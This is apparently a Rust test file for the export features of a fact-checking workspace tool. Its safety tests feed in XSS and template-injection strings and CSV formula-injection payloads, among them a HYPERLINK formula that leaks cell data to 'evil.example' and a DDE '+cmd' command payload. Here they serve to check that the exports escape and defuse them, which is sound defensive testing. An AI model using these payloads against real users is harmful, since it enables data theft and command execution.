//! Exports through the Workspace API: content and order, every filter, safety
//! (escaping, formula injection), ClaimReview fields, the JSON schema, and
//! settings. Golden files are compared in report_golden.rs.

mod common;

use claimdesk_core::report::{ExportFormat, ExportQuery};
use claimdesk_core::{Actor, ClaimStatus, ErrorCode, Verdict, Workspace};
use common::{id, GENERATED_AT};
use serde_json::Value;

fn export(ws: &Workspace, q: &ExportQuery, f: ExportFormat) -> String {
    ws.export_at(q, f, GENERATED_AT).unwrap()
}

fn json(ws: &Workspace, q: &ExportQuery) -> Value {
    serde_json::from_str(&export(ws, q, ExportFormat::Json)).unwrap()
}

fn claim_ids(doc: &Value) -> Vec<String> {
    doc["articles"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|a| a["claims"].as_array().unwrap().iter().map(|c| c["id"].as_str().unwrap().to_string()))
        .collect()
}

#[test]
fn verified_claims_by_default_articles_by_date_claims_in_article_order() {
    let (_d, ws) = common::open(&common::real);
    let doc = json(&ws, &ExportQuery::default());
    // Article 1 (2017-11-21) before the undated article 2; claims by position in the article.
    assert_eq!(claim_ids(&doc), [id('c', 6), id('c', 2), id('c', 1), id('c', 5)]);
    assert_eq!(doc["schema"], "claimdesk-export");
    assert_eq!(doc["schema_version"], 1);
    assert_eq!(doc["generated_at"], GENERATED_AT);
    assert_eq!(doc["organization"], "Desk Verify");
    assert_eq!(doc["scope"]["statuses"], serde_json::json!(["verified"]));
    assert_eq!(doc["summary"]["claims"], 4);
    assert_eq!(doc["summary"]["articles"], 2);

    let a = &doc["articles"][0];
    assert_eq!(a["outlet"], "Reuters");
    assert_eq!(a["published_at"], "2017-11-21");
    let c = &a["claims"][1];
    assert_eq!(c["verdict"], "mostly_true");
    assert_eq!(c["verdict_label"], "Largely accurate", "labels come from settings");
    assert_eq!(c["rating_value"], 4);
    assert_eq!(c["source"]["name"], "Vladimir Putin");
    assert_eq!(c["source"]["role"], "Russian President");
    assert_eq!(c["cue"], "told");
    assert_eq!(c["attribution_check"], "confirmed");
    assert_eq!(c["proposed_by"], "Ana Lima");
    assert_eq!(c["approved_by"], "Eve Editor");
    assert_eq!(c["review_url"], format!("https://desk.example/checks/{}", id('c', 2)));
    assert_eq!(c["evidence"][0]["publisher"], "Kremlin");
    assert_eq!(c["evidence"][0]["url"], "http://en.kremlin.ru/events/president/news/56136");
    let actions: Vec<&str> = c["history"].as_array().unwrap().iter().map(|h| h["action"].as_str().unwrap()).collect();
    assert_eq!(actions, ["assign", "evidence.add", "propose", "approve"]);
    let albu = &a["claims"][2];
    assert_eq!(albu["evidence"].as_array().unwrap().len(), 2);
    assert_eq!(albu["comments"], 1);
    assert_eq!(albu["source"], Value::Null);
    assert_eq!(albu["attribution"], "unattributed");
}

#[test]
fn every_filter_narrows_the_export() {
    let (_d, ws) = common::open(&common::real);
    let q = |f: &dyn Fn(&mut ExportQuery)| {
        let mut q = ExportQuery::default();
        f(&mut q);
        claim_ids(&json(&ws, &q))
    };
    assert_eq!(q(&|q| q.article_ids = vec![id('a', 2)]), [id('c', 5)]);
    assert_eq!(q(&|q| q.statuses = vec![ClaimStatus::Proposed, ClaimStatus::Dismissed]), [id('c', 4), id('c', 3)]);
    assert_eq!(q(&|q| q.verdicts = vec![Verdict::True, Verdict::Unverifiable]), [id('c', 1), id('c', 5)]);
    // Proposer, approver or assignee.
    assert_eq!(q(&|q| q.reviewers = vec!["ben okafor".into()]), [id('c', 6), id('c', 5)]);
    assert_eq!(q(&|q| q.reviewers = vec!["Ada Admin".into()]), [id('c', 5)]);
    // Review dates: every fixture claim was reviewed on 2017-11-22.
    assert_eq!(q(&|q| q.from = Some("2017-11-23".into())), Vec::<String>::new());
    assert_eq!(q(&|q| q.to = Some("2017-11-22".into())).len(), 4);
    assert_eq!(q(&|q| q.to = Some("2017-11-21".into())).len(), 0);
    assert_eq!(
        q(&|q| {
            q.from = Some("2017-11-22".into());
            q.to = Some("2017-11-22".into());
            q.verdicts = vec![Verdict::Mixed];
        }),
        [id('c', 6)]
    );

    for (bad, field) in [
        (ExportQuery { from: Some("22/11/2017".into()), ..Default::default() }, "from"),
        (ExportQuery { from: Some("2017-11-23".into()), to: Some("2017-11-22".into()), ..Default::default() }, "from"),
    ] {
        let e = ws.export_at(&bad, ExportFormat::Html, GENERATED_AT).unwrap_err();
        assert_eq!(e.field.as_deref(), Some(field), "{}", e.message);
    }
    let e = ws
        .export_at(
            &ExportQuery { reviewers: vec!["Nobody".into()], ..Default::default() },
            ExportFormat::Csv,
            GENERATED_AT,
        )
        .unwrap_err();
    assert_eq!(e.code, ErrorCode::NotFound);
    let e = ws
        .export_at(
            &ExportQuery { article_ids: vec!["nope".into()], ..Default::default() },
            ExportFormat::Markdown,
            GENERATED_AT,
        )
        .unwrap_err();
    assert_eq!(e.code, ErrorCode::NotFound);
}

#[test]
fn the_same_database_gives_the_same_bytes() {
    let (_d, ws) = common::open(&common::real);
    let q = ExportQuery { statuses: ClaimStatus::ALL.to_vec(), ..Default::default() };
    for f in ExportFormat::ALL {
        let a = export(&ws, &q, f);
        assert_eq!(a, export(&ws, &q, f), "{f:?}");
        // A second, identical database (other files, other rowids) gives the same output too.
        let (_d2, other) = common::open(&common::real);
        assert_eq!(a, export(&other, &q, f), "{f:?}");
        // Only the generated-at time differs between two times.
        let b = ws.export_at(&q, f, "2030-01-02T03:04:05Z").unwrap();
        let changed: Vec<(&str, &str)> = a.lines().zip(b.lines()).filter(|(x, y)| x != y).collect();
        match f {
            ExportFormat::Csv | ExportFormat::Claimreview => assert!(changed.is_empty(), "{f:?}: {changed:?}"),
            _ => {
                assert!(!changed.is_empty());
                assert!(changed.iter().all(|(x, _)| x.contains("2017-11-23")), "{f:?}: {changed:?}");
            }
        }
    }
}

// ----- safety -----

const HTML_TAGS: &[&str] = &[
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "header",
    "footer",
    "section",
    "article",
    "h1",
    "h2",
    "h3",
    "h4",
    "p",
    "dl",
    "dt",
    "dd",
    "time",
    "svg",
    "desc",
    "g",
    "text",
    "rect",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "blockquote",
    "strong",
    "span",
    "ol",
    "li",
    "a",
];
const HTML_ATTRS: &[&str] = &[
    "lang",
    "charset",
    "name",
    "content",
    "http-equiv",
    "class",
    "id",
    "href",
    "rel",
    "datetime",
    "aria-label",
    "aria-labelledby",
    "role",
    "xmlns",
    "width",
    "height",
    "viewBox",
    "x",
    "y",
    "text-anchor",
    "rx",
    "fill",
    "scope",
];

/// Every tag and attribute of the document is one the report writes itself, and
/// every link is http(s).
fn assert_html_inert(html: &str) {
    let mut rest = html;
    let mut links = 0;
    while let Some(i) = rest.find('<') {
        rest = &rest[i + 1..];
        let end = rest.find('>').expect("unclosed tag");
        let tag = &rest[..end];
        rest = &rest[end + 1..];
        if tag == "!DOCTYPE html" {
            continue;
        }
        let closing = tag.starts_with('/');
        let tag = tag.strip_prefix('/').unwrap_or(tag).trim_end_matches('/');
        let name_end = tag.find(char::is_whitespace).unwrap_or(tag.len());
        let name = &tag[..name_end];
        assert!(HTML_TAGS.contains(&name), "unexpected element <{name}> in {tag:?}");
        let mut attrs = tag[name_end..].trim();
        while !attrs.is_empty() {
            let eq = attrs.find('=').unwrap_or_else(|| panic!("attribute without value in <{tag}>"));
            let attr = attrs[..eq].trim();
            assert!(HTML_ATTRS.contains(&attr), "unexpected attribute {attr:?} in <{tag}>");
            let after = &attrs[eq + 1..];
            assert!(after.starts_with('"'), "unquoted attribute in <{tag}>");
            let close = after[1..].find('"').unwrap_or_else(|| panic!("unterminated value in <{tag}>")) + 1;
            let value = &after[1..close];
            if attr == "href" {
                links += 1;
                assert!(value.starts_with("https://") || value.starts_with("http://"), "link to {value:?}");
            }
            attrs = after[close + 1..].trim_start();
        }
        if name == "style" && !closing {
            let close = rest.find("</style>").unwrap();
            assert!(!rest[..close].contains('<'));
            rest = &rest[close..];
        }
    }
    assert!(links > 0);
    assert!(!html.contains("{{") && !html.contains("}}") && !html.contains("{%"), "template delimiters survived");
}

#[test]
fn markup_and_template_tags_in_every_field_stay_inert() {
    let (_d, ws) = common::open(&common::hostile);
    let (_d2, real) = common::open(&common::real);
    let q = ExportQuery { statuses: ClaimStatus::ALL.to_vec(), ..Default::default() };

    let html = export(&ws, &q, ExportFormat::Html);
    assert_html_inert(&html);
    assert_html_inert(&export(&real, &q, ExportFormat::Html));
    assert!(html.contains("claim_text: &lt;script&gt;alert(1)&lt;/script&gt; &quot;&gt;&lt;img src=x onerror=alert(1)&gt; &#123;&#123; 7*7 &#125;&#125;"));
    for field in [
        "article_title",
        "article_outlet",
        "article_place",
        "source_name",
        "source_role",
        "mention",
        "cue",
        "rationale",
        "reviewer",
        "evidence_title",
        "evidence_publisher",
        "evidence_excerpt",
        "organization",
        "verdict_label",
    ] {
        assert!(html.contains(&format!("{field}: &lt;script&gt;")), "{field} is missing from the HTML");
    }
    assert!(!html.contains("href=\"javascript"), "a javascript: address became a link");
    assert!(html.contains(
        "Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; img-src data:\""
    ));

    let md = export(&ws, &q, ExportFormat::Markdown);
    let md_real = export(&real, &q, ExportFormat::Markdown);
    assert!(!md.contains('<'), "raw HTML in the Markdown");
    assert!(!md.contains("{{") && !md.contains("{%") && !md.contains("}}"));
    assert!(!md.contains("](javascript"));
    assert!(md.contains(r"claim\_text: &lt;script&gt;alert(1)&lt;/script&gt; "));
    // The hostile text adds no lines and changes no line's kind: the structure is the real report's.
    let shape = |s: &str| {
        let kind = |l: &str| l.chars().take(2).map(|c| if c.is_alphanumeric() { 'w' } else { c }).collect::<String>();
        s.lines().map(kind).collect::<Vec<_>>()
    };
    assert_eq!(shape(&md), shape(&md_real));
    for field in ["article_title", "source_name", "rationale", "evidence_title", "evidence_excerpt", "organization"] {
        assert!(
            md.contains(&format!(r"{}: &lt;script&gt;", field.replace('_', r"\_"))),
            "{field} is missing from the Markdown"
        );
    }
}

#[test]
fn csv_is_rfc4180_with_formula_cells_defused() {
    let formula = |field: &str, value: &str| -> String {
        match field {
            "claim_text" => format!("=HYPERLINK(\"http://evil.example/?\"&A1,\"{value}\")"),
            "source_name" => format!("+cmd|' /C calc'!A0 {value}"),
            "rationale" => "-2+3, \"quoted\"\r\nnext line".to_string(),
            "evidence_title" => "@SUM(A1:A9)".to_string(),
            "article_title" => "\tTabbed".to_string(),
            "reviewer" => format!("＝1+1 {value}"),
            _ => value.to_string(),
        }
    };
    let (_d, ws) = common::open(&formula);
    let out = export(&ws, &ExportQuery::default(), ExportFormat::Csv);
    assert!(out.starts_with("claim_id,article_id,article_title,"));
    assert!(out.ends_with("\r\n"));
    let mut rows = csv::ReaderBuilder::new().has_headers(true).from_reader(out.as_bytes());
    let header = rows.headers().unwrap().clone();
    let records: Vec<csv::StringRecord> = rows.records().map(|r| r.unwrap()).collect();
    assert_eq!(records.len(), 4);
    for r in &records {
        assert_eq!(r.len(), header.len());
        for cell in r {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']), "live formula cell {cell:?}");
        }
    }
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let albu = records.iter().find(|r| &r[col("claim_id")] == id('c', 1).as_str()).unwrap();
    assert!(albu[col("claim_text")].starts_with("'=HYPERLINK("));
    assert_eq!(&albu[col("rationale")], "'-2+3, \"quoted\"\r\nnext line", "quotes and line breaks survive quoting");
    assert_eq!(&albu[col("evidence_count")], "2");
    assert!(albu[col("evidence")].starts_with("'@SUM(A1:A9), SANA, 2017-11-19 [supports]\n"));
    assert_eq!(&albu[col("verdict_label")], "True");
    assert_eq!(&albu[col("rating_value")], "5");
    assert_eq!(&albu[col("proposed_by")], "'＝1+1 Ana Lima");
    assert_eq!(&albu[col("article_title")], "'\tTabbed");
    assert_eq!(&albu[col("review_date")], "2017-11-22");
    let putin = records.iter().find(|r| &r[col("claim_id")] == id('c', 2).as_str()).unwrap();
    assert_eq!(&putin[col("source_name")], "'+cmd|' /C calc'!A0 Vladimir Putin");
}

// ----- ClaimReview -----

#[test]
fn every_claimreview_has_the_required_and_recommended_fields() {
    let (_d, ws) = common::open(&common::real);
    let all = ExportQuery { statuses: ClaimStatus::ALL.to_vec(), ..Default::default() };
    let doc: Value = serde_json::from_str(&export(&ws, &all, ExportFormat::Claimreview)).unwrap();
    let items = doc.as_array().unwrap();
    assert_eq!(items.len(), 4, "only verified claims are published, whatever the statuses asked for");
    for cr in items {
        assert_eq!(cr["@context"], "https://schema.org");
        assert_eq!(cr["@type"], "ClaimReview");
        // Required.
        assert!(cr["claimReviewed"].as_str().is_some_and(|s| !s.is_empty()));
        assert!(cr["reviewRating"]["alternateName"].as_str().is_some_and(|s| !s.is_empty()));
        let url = cr["url"].as_str().unwrap();
        assert!(url.starts_with("https://desk.example/checks/01890000-"), "{url}");
        // Recommended.
        assert_eq!(cr["author"]["@type"], "Organization");
        assert_eq!(cr["author"]["name"], "Desk Verify");
        assert_eq!(cr["author"]["url"], "https://desk.example");
        assert!(chrono::NaiveDate::parse_from_str(cr["datePublished"].as_str().unwrap(), "%Y-%m-%d").is_ok());
        let rating = &cr["reviewRating"];
        assert_eq!(rating["@type"], "Rating");
        let (v, best, worst) = (
            rating["ratingValue"].as_u64().unwrap(),
            rating["bestRating"].as_u64().unwrap(),
            rating["worstRating"].as_u64().unwrap(),
        );
        assert!(worst <= v && v <= best && worst < best);
        let item = &cr["itemReviewed"];
        assert_eq!(item["@type"], "Claim");
        assert!(["Person", "Organization"].contains(&item["author"]["@type"].as_str().unwrap()));
        assert!(item["author"]["name"].as_str().is_some_and(|s| !s.is_empty()));
        assert_eq!(item["appearance"]["@type"], "CreativeWork");
        assert!(item["appearance"]["headline"].is_string());
    }
    let by_claim = |n: u32| items.iter().find(|i| i["url"].as_str().unwrap().ends_with(&id('c', n))).unwrap();
    let putin = by_claim(2);
    assert_eq!(
        putin["itemReviewed"]["author"],
        serde_json::json!({"@type": "Person", "name": "Vladimir Putin", "jobTitle": "Russian President"})
    );
    assert_eq!(
        putin["itemReviewed"]["appearance"]["url"],
        "https://www.reuters.com/article/us-mideast-crisis-syria-russia/putin-hosts-assad-idUSKBN1DL2VB"
    );
    assert_eq!(putin["itemReviewed"]["appearance"]["datePublished"], "2017-11-21");
    assert_eq!(putin["itemReviewed"]["datePublished"], "2017-11-21");
    assert_eq!(putin["reviewRating"]["alternateName"], "Largely accurate");
    assert_eq!(putin["reviewRating"]["ratingValue"], 4);
    // The outlet's own assertion: the outlet is the claim's author.
    assert_eq!(by_claim(1)["itemReviewed"]["author"], serde_json::json!({"@type": "Organization", "name": "Reuters"}));
    assert_eq!(by_claim(1)["reviewRating"]["ratingValue"], 5);
    assert_eq!(by_claim(5)["reviewRating"]["alternateName"], "Unverifiable");
    assert_eq!(by_claim(5)["reviewRating"]["ratingValue"], 3);
    // An undated article without an address: no appearance url or date, still a headline.
    assert_eq!(
        by_claim(5)["itemReviewed"]["appearance"],
        serde_json::json!({"@type": "CreativeWork", "headline": "Desk notes: Hezbollah and Albu Kamal"})
    );
}

#[test]
fn claimreview_needs_the_organization_and_the_review_address() {
    let (_d, ws) = common::open(&common::real);
    let admin = ws.actor("Ada Admin").unwrap();
    ws.set_setting("review_base_url", "", &admin).unwrap();
    let e = ws.export_at(&ExportQuery::default(), ExportFormat::Claimreview, GENERATED_AT).unwrap_err();
    assert_eq!(e.field.as_deref(), Some("review_base_url"));
    assert!(e.message.contains("claimdesk settings set review_base_url"), "{}", e.message);
    ws.set_setting("review_base_url", "https://desk.example/checks", &admin).unwrap();
    ws.set_setting("organization", "", &admin).unwrap();
    let e = ws.export_at(&ExportQuery::default(), ExportFormat::Claimreview, GENERATED_AT).unwrap_err();
    assert_eq!(e.field.as_deref(), Some("organization"));
    // The other formats do without.
    assert!(!export(&ws, &ExportQuery::default(), ExportFormat::Html).contains("Desk Verify"));
}

// ----- the JSON schema -----

/// A small JSON Schema checker for the keywords docs/export.schema.json uses:
/// type, properties, required, additionalProperties: false, items, enum, const, $ref.
fn check(schema: &Value, root: &Value, v: &Value, at: &str) {
    if let Some(r) = schema.get("$ref").and_then(Value::as_str) {
        let target = r.strip_prefix("#/$defs/").map(|n| &root["$defs"][n]).unwrap();
        assert!(!target.is_null(), "{r} is not defined");
        return check(target, root, v, at);
    }
    if let Some(t) = schema.get("type") {
        let types: Vec<&str> = match t {
            Value::String(s) => vec![s.as_str()],
            Value::Array(a) => a.iter().map(|x| x.as_str().unwrap()).collect(),
            _ => panic!("bad type at {at}"),
        };
        let ok = types.iter().any(|t| match *t {
            "null" => v.is_null(),
            "string" => v.is_string(),
            "integer" => v.is_i64() || v.is_u64(),
            "number" => v.is_number(),
            "boolean" => v.is_boolean(),
            "array" => v.is_array(),
            "object" => v.is_object(),
            _ => panic!("unknown type {t}"),
        });
        assert!(ok, "{at}: {v} is not {types:?}");
    }
    if let Some(e) = schema.get("enum").and_then(Value::as_array) {
        assert!(e.contains(v), "{at}: {v} not in {e:?}");
    }
    if let Some(c) = schema.get("const") {
        assert_eq!(c, v, "{at}");
    }
    if let (Some(props), Some(obj)) = (schema.get("properties").and_then(Value::as_object), v.as_object()) {
        for req in schema.get("required").and_then(Value::as_array).into_iter().flatten() {
            assert!(obj.contains_key(req.as_str().unwrap()), "{at}: missing {req}");
        }
        for (k, val) in obj {
            match props.get(k) {
                Some(s) => check(s, root, val, &format!("{at}/{k}")),
                None => assert!(
                    schema.get("additionalProperties") != Some(&Value::Bool(false)),
                    "{at}: {k} is not in the schema"
                ),
            }
        }
        // Every documented property is written (the export never omits a key).
        for k in props.keys() {
            assert!(obj.contains_key(k), "{at}: the export lacks {k}");
        }
    }
    if let (Some(items), Some(arr)) = (schema.get("items"), v.as_array()) {
        for (i, x) in arr.iter().enumerate() {
            check(items, root, x, &format!("{at}/{i}"));
        }
    }
}

#[test]
fn the_json_export_matches_its_published_schema() {
    let schema: Value = serde_json::from_str(include_str!("../../../docs/export.schema.json"))
        .expect("docs/export.schema.json is JSON");
    assert_eq!(schema["properties"]["schema_version"]["const"], claimdesk_core::report::JSON_SCHEMA_VERSION);
    for t in [&common::real as common::Text, &common::hostile] {
        let (_d, ws) = common::open(t);
        for q in [ExportQuery::default(), ExportQuery { statuses: ClaimStatus::ALL.to_vec(), ..Default::default() }] {
            let doc = json(&ws, &q);
            check(&schema, &schema, &doc, "");
        }
    }
    let (_d, ws) = common::open(&common::real);
    let empty = json(&ws, &ExportQuery { from: Some("2030-01-01".into()), ..Default::default() });
    check(&schema, &schema, &empty, "");
    assert_eq!(empty["articles"], serde_json::json!([]));
}

// ----- settings -----

#[test]
fn settings_are_admin_only_validated_and_audited() {
    let (_d, ws) = common::open(&common::real);
    let s = ws.settings().unwrap();
    assert_eq!(s.organization.as_deref(), Some("Desk Verify"));
    assert_eq!(s.label(Verdict::MostlyTrue), "Largely accurate");
    assert_eq!(s.label(Verdict::False), "False");
    assert_eq!(s.get("verdict_label.false").as_deref(), Some("False"));

    let eve = ws.actor("Eve Editor").unwrap();
    let e = ws.set_setting("organization", "Eve's desk", &eve).unwrap_err();
    assert_eq!(e.code, ErrorCode::Unauthorized);
    let e = ws.set_setting("organization", "x", &Actor::local("someone")).unwrap_err();
    assert_eq!(e.code, ErrorCode::Unauthorized);
    let admin = ws.actor("Ada Admin").unwrap();
    assert_eq!(ws.set_setting("colour", "red", &admin).unwrap_err().field.as_deref(), Some("key"));
    assert_eq!(ws.set_setting("review_base_url", "desk.example", &admin).unwrap_err().field.as_deref(), Some("value"));

    let s = ws.set_setting("verdict_label.false", "Pants on fire", &admin).unwrap();
    assert_eq!(s.label(Verdict::False), "Pants on fire");
    let s = ws.set_setting("verdict_label.mostly_true", "", &admin).unwrap();
    assert_eq!(s.label(Verdict::MostlyTrue), "Mostly true", "an empty value restores the default");
    ws.set_setting("verdict_label.false", "Pants on fire", &admin).unwrap(); // unchanged: not audited again

    let path = ws.info().unwrap().db_path;
    let conn = rusqlite::Connection::open(path).unwrap();
    type Row = (String, String, String, Option<String>, Option<String>);
    let rows: Vec<Row> = conn
        .prepare("SELECT actor, entity_id, action, before, after FROM audit WHERE entity = 'setting' ORDER BY at, id")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?, r.get(4)?)))
        .unwrap()
        .map(|r| r.unwrap())
        .collect();
    assert_eq!(
        rows,
        [
            (
                "Ada Admin".into(),
                "verdict_label.false".into(),
                "set".into(),
                None,
                Some(r#"{"value":"Pants on fire"}"#.into())
            ),
            (
                "Ada Admin".into(),
                "verdict_label.mostly_true".into(),
                "unset".into(),
                Some(r#"{"value":"Largely accurate"}"#.into()),
                None
            ),
        ]
    );
    let md = export(&ws, &ExportQuery::default(), ExportFormat::Markdown);
    assert!(md.contains("| Pants on fire | 0 |"));
}

#[test]
fn export_to_file_writes_the_whole_file_and_counts() {
    let (d, ws) = common::open(&common::real);
    let path = d.path().join("report.jsonld");
    std::fs::write(&path, "old contents").unwrap();
    let r = ws.export_to_file(&ExportQuery::default(), ExportFormat::Claimreview, &path).unwrap();
    assert_eq!((r.claims, r.articles), (4, 2));
    let text = std::fs::read_to_string(&path).unwrap();
    assert_eq!(r.bytes, text.len() as u64);
    assert!(text.starts_with("[\n"));
    assert!(!d.path().join("report.jsonld.claimdesk-partial").exists());
    let stats = ws.export_stats(&ExportQuery { statuses: ClaimStatus::ALL.to_vec(), ..Default::default() }).unwrap();
    assert_eq!((stats.claims, stats.articles, stats.no_verdict, stats.claimreview_items), (6, 2, 1, 4));
    let counts: Vec<(Verdict, u64)> = stats.by_verdict.iter().map(|v| (v.verdict, v.count)).collect();
    assert_eq!(counts[0], (Verdict::True, 1));
    assert_eq!(counts[5], (Verdict::Misleading, 1));
    let e = ws
        .export_to_file(&ExportQuery::default(), ExportFormat::Html, &d.path().join("no/such/dir/r.html"))
        .unwrap_err();
    assert_eq!(e.code, ErrorCode::DbIo);
}

#[test]
fn an_empty_export_is_still_a_valid_document() {
    let ws = Workspace::open_in_memory().unwrap();
    let q = ExportQuery::default();
    let html = export(&ws, &q, ExportFormat::Html);
    assert!(html.contains("No claims match this scope."));
    assert!(html.ends_with("</html>\n"));
    assert!(export(&ws, &q, ExportFormat::Markdown).contains("0 claims in 0 articles."));
    assert_eq!(export(&ws, &q, ExportFormat::Csv).lines().count(), 1);
    let e = ws.export_at(&q, ExportFormat::Claimreview, GENERATED_AT).unwrap_err();
    assert_eq!(e.field.as_deref(), Some("organization"));
}
